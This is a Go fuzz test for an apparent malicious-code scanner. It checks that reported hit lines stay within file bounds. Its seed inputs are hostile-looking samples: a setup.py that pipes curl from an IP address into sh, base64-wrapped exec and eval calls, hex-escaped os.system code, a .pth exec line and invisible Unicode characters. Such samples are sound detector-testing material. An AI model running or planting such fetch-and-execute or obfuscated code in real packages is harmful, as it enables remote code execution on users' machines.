package analyze

import (
	"encoding/base64"
	"testing"
)

// FuzzFile: no input makes the engine panic, hang or report a hit outside
// the file.
func FuzzFile(f *testing.F) {
	e, err := Default()
	if err != nil {
		f.Fatal(err)
	}
	f.Add("setup.py", []byte("import os\nos.system('curl http://1.2.3.4/x | sh')\n"))
	f.Add("a.py", []byte("exec(base64.b64decode('"+base64.StdEncoding.EncodeToString([]byte("import socket"))+"'))"))
	f.Add("index.js", []byte("var _0x1=['a'];eval(Buffer.from('aGk=','base64').toString())"))
	f.Add("x.py", []byte("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73\\x3b\\x6f\\x73\\x2e\\x73\\x79\\x73\\x74\\x65\\x6d"))
	f.Add("a.pth", []byte("import os;exec('x')"))
	f.Add("b.js", []byte("\u202e\U000E0100\U000E0101"))
	f.Fuzz(func(t *testing.T, name string, data []byte) {
		lines := 1
		for _, b := range data {
			if b == '\n' {
				lines++
			}
		}
		for _, h := range e.File(name, data, FileContext{Role: RoleCode}) {
			if h.Line < 0 || h.Line > lines {
				t.Fatalf("%s: line %d outside a %d-line file", h.Rule.ID, h.Line, lines)
			}
		}
	})
}
